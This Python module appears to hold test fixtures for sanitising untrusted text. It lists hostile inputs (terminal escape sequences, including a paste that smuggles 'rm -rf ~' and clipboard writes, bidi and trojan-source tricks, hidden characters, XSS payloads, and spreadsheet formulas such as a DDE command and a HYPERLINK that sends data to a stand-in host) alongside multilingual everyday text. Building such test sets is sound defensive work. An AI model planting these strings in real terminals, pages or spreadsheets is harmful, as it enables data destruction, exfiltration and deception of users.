"""Texts that strangers write: nasty ones, which must reach nobody as a command, and everyday ones, which must stay readable.

Characters that cannot be seen are written as escapes.
"""

ESC_SEQUENCES = {
    "clear the screen": "\x1b[2J\x1b[H",
    "red": "\x1b[31mred\x1b[0m",
    "cursor up": "done\x1b[1A\x1b[2Kfailed",
    "report mouse": "\x1b[?1003h\x1b[?1006h",
    "bracketed paste": "\x1b[?2004h\x1b[201~rm -rf ~\n",
    "report position": "\x1b[6n",
    "answerback": "\x05",
    "reset": "\x1bc",
    "title": "\x1b]0;owned\x07",
    "title ended by ST": "\x1b]2;owned\x1b\\",
    "link": "\x1b]8;;http://192.0.2.1\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "device string": '\x1bP$q"p\x1b\\',
    "tmux passthrough": "\x1bPtmux;\x1b\x1b]52;c;cm0K\x07\x1b\\",
    "application string": "\x1b_Gf=100;AAAA\x1b\\",
    "unfinished": "ends in \x1b[",
    "unfinished string": "ends in \x1b]0;",
    "8-bit clear": "\x9b2J\x9bH",
    "8-bit clipboard": "\x9d52;c;cm0K\x9c",
    "colour in a word": "A\x1b[8mhidden\x1b[28mda",
    "overwritten line": "failed\rdone  ",
    "forged log line": "ok\r\n2026-11-15 12:00:00Z  error   all is lost",
    "forged prompt": "\r\x1b[2KDelete everything? [y/N] y",
}
STEERING = {f"control {code:02x}": f"a{chr(code)}b" for code in (*range(10), *range(11, 32), *range(127, 160))}
BIDI = {
    f"direction {code:04x}": f"ab{chr(code)}cd 12"
    for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
} | {
    "override to the end": "\u202eevil.exe",
    "file name": "photo\u202egpj.exe",
    "two isolates": "\u2067\u2066never closed",
    "closing what was not opened": "\u2069\u202c\u202c\u2069",
    "trojan source": "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
    "override among hebrew": "\u05e9\u05dc\u05d5\u05dd \u202dabc\u202c",
    "price turned": "\u202e00.1$",
    "nested": "\u202a\u202b\u202d\u202ex\u202c\u202c\u202c\u202c",
}
UNSEEN = {
    f"unseen {code:04x}": f"Ad{chr(code)}a"
    for code in (
        *(0xAD, 0x34F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0x2061, 0x2064),
        *(0x206A, 0x206F, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0x1D173, 0xE0001, 0xE007F, 0xFDD0, 0xFFFE, 0x10FFFF),
    )
} | {
    "tags that say something": "hello" + "".join(chr(0xE0000 + ord(sign)) for sign in "send me the key"),
    "joiners in a name": "A\u200dd\u200ca",
    "many zero widths": "x" + "\u200b" * 1000 + "y",
    "joiners without end": "\u0645" + "\u200c" * 1000,
    "joined emoji without end": "\U0001f468" + "\u200d" * 1000,
    "half a character": "half \ud83d pair",
    "other half": "half \udca9 pair",
}
MARKUP = {
    "closing tag": "[/foo] [/] [b",
    "rich": "[bold red]x[/bold red]",
    "rich link": "[link=http://192.0.2.1]x[/link]",
    "textual click": "[@click=app.quit]press me[/]",
    "textual click with words": "[@click=\"app.run_action('quit')\"]x[/]",
    "format": "{task.fields[title]} {0} {} %s %n %(x)s ${HOME} `id` $(id)",
    "markdown link": "[click](javascript:alert(1))",
    "markdown image": "![x](http://192.0.2.1/x.png)",
    "many brackets": "[b]" * 500,
}
HTML = {
    "script": "<script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "attribute with apostrophe": "' onfocus='alert(1)' autofocus='",
    "link": "<a href=javascript:alert(1)>x</a>",
    "entity": "&lt;script&gt; &amp;lt; &#x3c;script&#x3e;",
    "line separators": "var x = '\u2028alert(1)//\u2029'",
}
FORMULAS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://192.0.2.1?"&A1,"press")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "line break": "\n=1+1",
    "space": " =1+1",
    "no-break space": "\xa0=1+1",
    "quote": '"=1+1',
    "full-width equals": "\uff1d1+1",
    "byte order mark": "\ufeff=1+1",
    "zero width": "\u200b=1+1",
    "nul": "\x00=1+1",
    "minus sign": "\u22121+1",
}
LONG = {
    "a megabyte of accents": "e" + "\u0301" * 500_000,
    "a long word": "x" * 2_000_000,
    "a long name of wide signs": "\u6f22" * 1_000_000,
    "many lines": "line\n" * 100_000,
    "spaces": " " * 1_000_000,
    "escapes": "\x1b[31m" * 200_000,
    "joined emoji": "\U0001f468\u200d" * 200_000,
    "brackets": "[" * 500_000,
}

NASTY: dict[str, str] = {
    f"{group}: {name}": text
    for group, texts in {
        "sequence": ESC_SEQUENCES,
        "control": STEERING,
        "bidi": BIDI,
        "unseen": UNSEEN,
        "markup": MARKUP,
        "html": HTML,
        "formula": FORMULAS,
    }.items()
    for name, text in texts.items()
}

EVERYDAY: dict[str, str] = {
    "english": "Who gives in first? 50 % of them, \u201cmostly\u201d \u2013 it\u2019s said \u2026",
    "german": "Sch\u00f6ne Gr\u00fc\u00dfe aus K\u00f6ln",
    "decomposed": "Zoe\u0308 cafe\u0301",
    "vietnamese, decomposed": "Tie\u0302\u0301ng Vie\u0323\u0302t",
    "turkish": "\u0130stanbul\u2019da \u0131\u015f\u0131k",
    "greek": "\u039a\u03b1\u03bb\u03b7\u03bc\u03ad\u03c1\u03b1 \u03ba\u03cc\u03c3\u03bc\u03b5",
    "russian": "\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440!",
    "hebrew with points": "\u05e9\u05c1\u05b8\u05dc\u05d5\u05b9\u05dd",
    "arabic": "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "arabic with marks": "\u0628\u0650\u0633\u0652\u0645\u0650",
    "persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "hindi": "\u0928\u092e\u0938\u094d\u0924\u0947",
    "hindi with a joiner": "\u0915\u094d\u200d\u0937",
    "hindi with a non-joiner": "\u0915\u094d\u200c\u0937",
    "tamil": "\u0bb5\u0ba3\u0b95\u0bcd\u0b95\u0bae\u0bcd",
    "thai": "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "chinese": "\u4f60\u597d\uff0c\u4e16\u754c\u3002",
    "japanese": "\u3053\u3093\u306b\u3061\u306f\u3001\u4e16\u754c\uff01",
    "korean": "\uc548\ub155\ud558\uc138\uc694",
    "mathematics": "\u2211 x\u00b2 \u2264 \u221e, \u2200x\u2208\u211d, \U0001d4d0",
    "smile": "\U0001f600 fine",
    "heart": "\u2764\ufe0f",
    "flag": "\U0001f1e9\U0001f1ea",
    "skin tone": "\U0001f44b\U0001f3fd",
    "keycap": "1\ufe0f\u20e3",
    "signs at the start": "# one, * two, ~ three, $5, (x), 5 = 5",
    "brackets": "x[0] = y[1] and [sic]",
    "code": 'if (x < 3) { return "y"; } // 100%',
    "several lines": "one\ntwo\n\nthree",
}
"""the same on a terminal and in a document, to the letter"""

RESHAPED: dict[str, tuple[str, str, str]] = {
    "family": ("\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f468\U0001f469\U0001f467", ""),
    "rainbow flag": ("\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f3f3\ufe0f\U0001f308", ""),
    "scotland": ("\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "\U0001f3f4", ""),
    "no-break spaces": ("50\xa0% of\u202f5", "50 % of 5", ""),
    "tab": ("a\tb", "a    b", ""),
    "windows lines": ("one\r\ntwo", "one\ntwo", "one\ntwo"),
    "soft hyphen": ("Donau\xaddampf", "Donaudampf", "Donaudampf"),
    "arabic in isolates": (
        "\u2067\u0645\u0631\u062d\u0628\u0627\u2069 said",
        "\u0645\u0631\u062d\u0628\u0627 said",
        "\u0645\u0631\u062d\u0628\u0627 said",
    ),
    "byte order mark": ("\ufeffname", "name", "name"),
}
"""text → (as it was, on a terminal, in a document); an empty one: in a document it is as it was"""
